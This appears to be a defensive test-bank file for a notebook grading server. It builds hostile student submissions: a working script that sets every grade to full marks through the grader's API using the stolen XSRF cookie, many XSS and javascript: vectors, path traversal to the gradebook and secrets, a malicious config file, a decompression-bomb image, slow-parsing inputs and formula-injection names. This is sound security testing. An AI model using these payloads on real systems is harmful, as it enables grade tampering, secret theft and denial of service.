"""Serving: what an instructor's browser is shown, or is led to, of a notebook and of the files beside it.

Each function lays a submission into a folder, as in `handing_in`. A script that ran, a picture that was fetched and a
configuration that was read leave a trace named CANARY. RAISE_SCORES is what is at stake: in formgrader's own origin it
gives every submission full marks by hand.
"""

import base64
import inspect
import io
import struct
import zlib
from pathlib import Path
from typing import Any

from PIL import Image

from tests.banks.hostile.handing_in import HandIn, Notebook, beside, cell, with_cells, with_metadata

CANARY = "canary"
CANARY_FILE = "canary-of-a-configuration"
RAISE_SCORES = f"""
fetch('/{CANARY}-script');
const xsrf = (document.cookie.match('_xsrf=([^;]*)') || [])[1];
const headers = {{'Content-Type': 'application/json', 'X-CSRFToken': xsrf, 'X-XSRFToken': xsrf}};
fetch('/formgrader/api/submitted_notebooks/05_attention/05_attention').then((reply) => reply.json())
    .then((found) => found.forEach(({{id}}) => fetch('/formgrader/api/grades?submission_id=' + id)
    .then((reply) => reply.json()).then((grades) => grades.forEach((grade) => fetch('/formgrader/api/grade/' + grade.id,
    {{method: 'PUT', headers, body: JSON.stringify({{...grade, manual_score: grade.max_score}})}})))));
"""
PAGE = f"<!doctype html><script>{RAISE_SCORES}</script><p>See below.".encode()
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RAISE_SCORES}</script></svg>'.encode()
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[{RAISE_SCORES}]]></script></html>'.encode()
LOGOUT = "/logout"
RUN = f"fetch('/{CANARY}-script')"
CONFIGURATION = f"import pathlib\npathlib.Path('{CANARY_FILE}').touch()\n".encode()


def text(*sources: str) -> HandIn:
    """A submission with cells of Markdown."""
    return with_cells(*(cell(source, "markdown") for source in sources))


def code(*sources: str) -> HandIn:
    """A submission with cells of code, which are run."""
    return with_cells(*(cell(source) for source in sources))


def pasted(attachments: Any, source: str, **nbgrader: Any) -> dict[str, Any]:
    """A cell into which something was pasted, as JupyterLab has it."""
    return {**cell(source, "markdown", **nbgrader), "attachments": attachments}


def base64_of(data: bytes) -> str:
    return base64.b64encode(data).decode()


def linked(names: dict[str, bytes]) -> HandIn:
    """Files beside the notebook, each behind a link and in a picture."""
    links = "\n\n".join(f"[The derivation is here]({name}) ![drawing]({name})" for name in names)
    return beside(names, text(links))


def climbing(folder: Path, notebook: Notebook, victim: Path) -> None:
    """Links whose address a browser does not take apart, and the server does: to what was handed in, and the secret."""
    (folder / "deep").mkdir(parents=True)
    (folder / "deep" / "derivation.html").write_bytes(PAGE)
    course = folder.parents[2]
    mine = f"submitted/{folder.parent.name}/05_attention/deep/derivation.html"
    addresses = [f"../../../{mine}", str(course / mine), "../../../.llm_course_secret", "../../../gradebook.db"]
    hidden = [address.replace("/", "%2f") for address in addresses]
    text(*(f"[Derivation]({address}) ![a]({address})" for address in hidden))(folder, notebook, victim)


def a_configuration(folder: Path, notebook: Notebook, victim: Path) -> None:
    """A link that makes formgrader read its configuration, which is a program, from what was handed in."""
    folder.mkdir(parents=True)
    (folder / "nbgrader_config.py").write_bytes(CONFIGURATION)
    address = f"/formgrader?path=submitted/{folder.parent.name}/05_attention"
    text(f"[Look]({address}) ![a]({address}) [Look](../..{address})")(folder, notebook, victim)


def png(width: int, height: int) -> bytes:
    """A black picture of one bit a pixel: of 30,000 x 30,000 it has a hundred kilobytes here and gigabytes in
    a browser.
    """
    chunks = {
        b"IHDR": struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0),
        b"IDAT": zlib.compress(b"\0" * (height * (1 + (width + 7) // 8)), 1),
        b"IEND": b"",
    }
    packed = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks.items()
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


HUGE = png(30_000, 30_000)
DRAWN_AS_HERE = f"import struct, zlib\nfrom IPython.display import Image\n{inspect.getsource(png)}"
HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\"><img src={LOGOUT}><img srcset='{LOGOUT} 1x, /{CANARY}.png 2x'>",
    f"<picture><source srcset={LOGOUT}><img src=/{CANARY}.png></picture><image src={LOGOUT}>",
    f'<svg onload="{RUN}"><image href={LOGOUT} /><use href=/{CANARY}.svg#a /><script>{RUN}</script></svg>',
    f"<video src={LOGOUT} poster=/{CANARY}.png autoplay></video><audio src={LOGOUT} autoplay></audio>",
    f'<iframe src={LOGOUT}></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><frame src={LOGOUT}>',
    f"<object data={LOGOUT}></object><embed src={LOGOUT}><applet code={CANARY}></applet>",
    f"<link rel=stylesheet href={LOGOUT}><link rel=prefetch href=/{CANARY}><base href=http://{CANARY}.invalid/>",
    f"<style>@import url({LOGOUT}); body {{ background: url(/{CANARY}.png) }}</style>",
    f"<p style='background: url({LOGOUT})'>x</p><table background={LOGOUT}><tr><td background=/{CANARY}>x</table>",
    f"<meta http-equiv=refresh content='0; url={LOGOUT}'>",
    f'<form action={LOGOUT}><button formaction={LOGOUT} autofocus onfocus="{RUN}">x</button></form>',
    f"<form action={LOGOUT}><input type=image src={LOGOUT}><input autofocus onfocus={RUN}>",
    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}">x</summary></details>',
    f"<a href=javascript:{RUN}>x</a><a href={LOGOUT} ping=/{CANARY}>x</a><area href={LOGOUT}>",
    f"<math href=javascript:{RUN}><mtext><mglyph src={LOGOUT}></mtext></math>",
    f'<div><script>{RUN}</script>\n\ntext <b onmouseover="{RUN}" style="position:fixed;inset:0">x</b></div>',
    f"</div></div></body></html><script>{RUN}</script>",
    f'</textarea></pre></code><svg><style><img src=x onerror="{RUN}"></style></svg>',
    f"<![CDATA[<script>{RUN}</script>]]><!-- --!><script>{RUN}</script> --><?php <script>{RUN}</script> ?>",
]
PICTURES = [
    LOGOUT,
    f"//{CANARY}.invalid/x.png",
    f"http://{CANARY}.invalid/x.png",
    f"http:/{CANARY}.png",
    f"https:{CANARY}.invalid/x.png",
    f"\\\\{CANARY}.invalid\\x.png",
    f"/\\{CANARY}.invalid/x.png",
    "../../../../logout",
    "..%2f..%2f..%2fgradebook.db",
    "%2e%2e/%2e%2e/x.png",
    "/formgrader/api/assignments",
    "file:///etc/passwd",
    f"data:image/svg+xml;base64,{base64_of(DRAWING)}",
    f"data:text/html;base64,{base64_of(PAGE)}",
    f"data:image/png;base64,{base64_of(PAGE)}",
    "data:image/png,x",
    f"blob:http://{CANARY}.invalid/x",
    f"javascript:{RUN}",
    f"<{LOGOUT}>",
    f'x.png "t" onerror="{RUN}',
    "attachment:no.png",
    "no such.png",
    "%00.png",
    "a" * 5000 + ".png",
    "http://[",
]
LINKS = [
    LOGOUT,
    f"//{CANARY}.invalid/",
    f"javascript:{RUN}",
    f"JaVaScript:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html;base64,{base64_of(PAGE)}",
    "../../api/students",
    f"../../manage_students/%22;{RUN};%22",
    f"../../gradebook/05_attention/%22;{RUN.replace('/', '%2f')};%22",
    "view-source:x",
    "http://[",
]
FORMULAS = [
    rf"\href{{javascript:{RUN}}}{{x}}",
    rf"\text{{<script>{RUN}</script>}}",
    rf'\text{{<img src={LOGOUT} onerror="{RUN}">}}',
    rf"\includegraphics{{http://{CANARY}.invalid/x.png}}",
    rf"\style{{background: url({LOGOUT}); position: fixed; inset: 0}}{{x}}",
    rf"\class{{navbar}}{{x}} \cssId{{{CANARY}}}{{x}}",
    rf"\require{{html}}\unicode{{x3c}} \bbox[background: url({LOGOUT})]{{x}}",
    rf"\color{{red; background: url({LOGOUT})}}x",
    r"\rule{999em}{999em}\hspace{-999em}\kern{-999em}",
    r"\def\a{\b\b\b\b}\def\b{\c\c\c\c}\def\c{\a\a}\a",
    r"\newcommand{\a}[1]{#1#1}" + r"\a{" * 200 + "x" + "}" * 200,
    "<img src=/logout onerror=alert(1)>",
]
BUNDLE = {
    "text/html": f'<script>{RUN}</script><img src={LOGOUT} onerror="{RUN}">',
    "image/svg+xml": DRAWING.decode(),
    "application/javascript": RUN,
    "text/markdown": f"![x]({LOGOUT}) <script>{RUN}</script>",
    "text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>",
    "text/vnd.mermaid": f"graph TD; a-->b; click a javascript:{RUN}",
}

SERVING: dict[str, HandIn] = {
    # H1: files
    "a page beside the notebook, linked": linked({"derivation.html": PAGE}),
    "pages with other names": linked(
        {f"derivation{suffix}": PAGE for suffix in (".htm", ".HTML", ".shtml", ".mhtml", ".php", ".html.", "")}
    ),
    "drawings and documents with scripts": linked(
        {"a.svg": DRAWING, "a.SVGZ": DRAWING, "a.xml": XHTML, "a.xhtml": XHTML}
    ),
    "pages that are named like pictures and tables": linked(
        {f"a{suffix}": PAGE for suffix in (".png", ".jpg", ".jpeg", ".csv", ".txt", ".py", ".npz", ".safetensors")}
    ),
    "pictures that go on as pages": linked({"a.png": png(8, 8) + PAGE, "a.jpg": b"\xff\xd8\xff\xe0" + PAGE}),
    "links that climb": climbing,
    "a configuration that is a program": a_configuration,
    # H2: what a page fetches by itself
    "pictures from anywhere": text(*(f"![x]({address})" for address in PICTURES)),
    "pictures by reference": text(*(f"![x][a]\n\n[a]: <{address}>" for address in PICTURES if "<" not in address)),
    "links to anywhere": text(*(f"[x]({address}) [y](<{address}>) <{address}>" for address in LINKS)),
    "HTML of all kinds": text(*HTML),
    "HTML inside a line, a table, a heading and a list": text(
        *(f"a {line} b\n\n# {line}\n\n- {line}\n\n|{line}|\n|-|\n|{line}|" for line in HTML)
    ),
    "code that ends its frame": text(
        f'```html" onclick="{RUN}\n</code></pre><script>{RUN}</script>\n```', f"`</code><script>{RUN}</script>`"
    ),
    "formulas that are links and scripts": text(*(f"${formula}$\n\n$${formula}$$" for formula in FORMULAS)),
    "environments that are scripts": text(*(rf"\begin{{align}}{formula}\end{{align}}" for formula in FORMULAS)),
    "outputs of all kinds": code(f"display({BUNDLE!r}, raw=True)"),
    "outputs of each kind": code(*(f"display({{{kind!r}: {data!r}}}, raw=True)" for kind, data in BUNDLE.items())),
    "outputs by the library": code(
        f"from IPython.display import *\ndisplay(HTML({PAGE.decode()!r}), SVG({DRAWING.decode()!r}))",
        f"display(Javascript({RUN!r}), Latex({PAGE.decode()!r}), Code('<script>', filename=None))",
        f"display(Image(url={LOGOUT!r}), IFrame({LOGOUT!r}, 9, 9), Markdown('![x]({LOGOUT})'), Video({LOGOUT!r}))",
        "import ipywidgets\ndisplay(ipywidgets.HTML('<img src=x onerror=alert(1)>'))",
        f"%%html\n<script>{RUN}</script>",
        f"%%javascript\n{RUN}",
    ),
    "prints and errors that are HTML": code(
        f"print({PAGE.decode()!r})",
        f"type({PAGE.decode()!r}, (Exception,), {{}})",
        f"raise type('<script>{RUN}<', (Exception,), {{}})({PAGE.decode()!r})",
        f"'</pre><script>{RUN}</script>' / 1",
        f"# </pre></div><script>{RUN}</script>",
    ),
    "the notebook's metadata are scripts": with_metadata(
        title=PAGE.decode(), widgets={"application/vnd.jupyter.widget-state+json": {"state": PAGE.decode()}}
    ),
    # D4: what takes long
    "lines of spaces": text(" \n" * 8000),
    "formulas that do not end": text("\\[a " * 22_000, "$a" * 10_000, "$$\n" * 7000, "\\begin{align}\n" * 1500),
    "references without end": text("[a]: b\n" * 2800, "[a]: b\n" * 99 + "x" * 18_000),
    "brackets, stars and stripes": text(
        *(char * (20_000 // len(char)) for char in ("[", "![", "*a ", "_a__", "|a", "`a``", "<a ", "> ", "- ", "~"))
    ),
    "code of spaces and dots": code("#\n" + " \n" * 10_000, "#" + "a." * 10_000, "'''" + "..." * 6000 + "'''"),
    "a long text": text("word " * 200_000, "# a\n" * 4999, "$x$ " * 4999),
    "long code": code("#" * 49_000, "a = 1\n" * 4000),
    "colors without end": code(
        "print('\\x1b[1ma' * 20_000)", "print('\\x1b[' + '0;' * 100_000)", "print('\\x1b[' * 100_000)"
    ),
    "many outputs": code("for i in range(3000): display(i)", "print('a' * 1_000_000)"),
    "many cells": with_cells(
        *(cell("*a* $x$ `b` <i>" * 20, "markdown") for _ in range(400)), *(cell("1") for _ in range(400))
    ),
    # D5: what has no page
    "colors that are none": code(
        *(
            f"print({f'{chr(27)}[{color}m'!r} + 'x')"
            for color in ("38", "48", "38;5", "38;5;999", "38;2;300;0;0", "48;2;1", "38;5;-1", ";;;", "9" * 30)
        )
    ),
    "words by which nbgrader finds tests and solutions": with_cells(
        *(
            cell(f"### BEGIN {what}\n### BEGIN {what}", kind)
            for what in ("HIDDEN TESTS", "SOLUTION", "MARK SCHEME")
            for kind in ("code", "markdown")
        )
    ),
    "a folder named like the page": beside({"05_attention.html/x.txt": b"x", "05_attention.HTML/y.txt": b"y"}),
    "a page named like the page": linked({"05_attention.html": PAGE}),
    "characters that are none": with_cells(
        cell("\x00\x01\x1b[31m\x7f\x85\ufffe\uffff\u202e\u2028 \ud800", "markdown"),
        cell("#\x00\x0c\u202e"),
        cell("print('\\x00\\x0c\\ufffe\\ud800\\r\\b')"),
    ),
    # By all the ways on which a picture comes to a page.
    "huge pictures": beside(
        {"huge.png": HUGE},
        with_cells(
            pasted({"huge.png": {"image/png": base64_of(HUGE)}}, "![a](attachment:huge.png)"),
            cell("![b](huge.png)", "markdown"),
            cell(f"![c](data:image/png;base64,{base64_of(HUGE)})", "markdown"),
            cell(f"{DRAWN_AS_HERE}\nImage(png(30_000, 30_000))"),
        ),
    ),
    "pictures pasted that are none": with_cells(
        *(
            pasted(attachments, "![a](attachment:a.png) ![b](attachment:../a.png)")
            for attachments in (
                1,
                {"a.png": 1},
                {"a.png": {}},
                {"a.png": {"image/png": 1}},
                {"a.png": {"image/png": "?"}},
                {"a.png": {"image/svg+xml": DRAWING.decode()}},
                {"a.png": {"text/html": PAGE.decode()}},
                {"a.png": {"image/png": base64_of(PAGE)}},
                {"a.png": {"image/png": [base64_of(png(4, 4))]}},
                {"../a.png": {"image/png": base64_of(png(4, 4))}, "": {}},
            )
        )
    ),
    "nests": text(
        ">" * 5000 + "a",
        "- " * 5000 + "a",
        "[" * 5000 + "a" + "](b)" * 5000,
        "$" + "{" * 900 + "}" * 900 + "$",
        "*" * 5000 + "a" + "*" * 5000,
    ),
}
"""Attack -> the function that hands it in. Each is worth nothing."""


def photo() -> bytes:
    data = io.BytesIO()
    Image.new("RGB", (30, 20), "red").save(data, "JPEG")
    return data.getvalue()


HONEST_PAGES: dict[str, HandIn] = {
    "a pasted screenshot": with_cells(
        pasted({"Shot 2026.png": {"image/png": base64_of(png(60, 40))}}, "![pasted](<attachment:Shot 2026.png>)")
    ),
    "a picture and data beside": beside(
        {
            "plot.png": png(40, 30),
            "figures/my photo.jpg": photo(),
            "data/numbers.csv": b"a,b\n1,2\n",
            "notes.txt": "Für später: <b>".encode(),
            "helper.py": b"def double(x):\n    return 2 * x\n",
            "weights.npz": b"PK\x05\x06" + b"\0" * 18,
            "weights.safetensors": b"\x02\0\0\0\0\0\0\0{}",
        },
        text("![my plot](plot.png)\n\n![my photo](figures/my%20photo.jpg)"),
    ),
    "a report of a trial": with_cells(
        cell(
            "# My trial\n\nThe *loss* falls, see [the paper](https://example.org/a?b=c) and $\\frac{1}{\\sqrt{d}}$.",
            "markdown",
        ),
        cell("| step | loss |\n|---|---|\n| 1 | 2.5 |\n\n$$\n\\sum_i x_i\n$$\n\n- a\n- b", "markdown"),
        cell("import matplotlib.pyplot as plt\nplt.plot([1, 2]);"),
        cell("print('\\x1b[31mred\\x1b[0m and plain')"),
        cell("{'a': 1}"),
    ),
}
"""What honest learners hand in, and must find on their pages."""

NAMES = [
    "eve\nz_victim: 20 of 20 points",
    "\x1b[2J\x1b[31meve",
    "eve\u202evictim",
    "eve   z_victim: 20 of 20 points",
    f'<img src=x onerror="{RUN.replace("/", "&#47;")}">',
    "\";fetch(String.fromCharCode(47)+'canary-script');\"",
    "\\",
    "a#<script>fetch(String.fromCharCode(47)+'canary-script');<!--",
    "a;=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http:")',
    "a\t=1+1",
    "\t=1+1",
    "-1+1",
    "a%22b",
    "a?b",
]
"""Names of folders of students, as an instructor unpacks what a platform made of names that learners chose."""
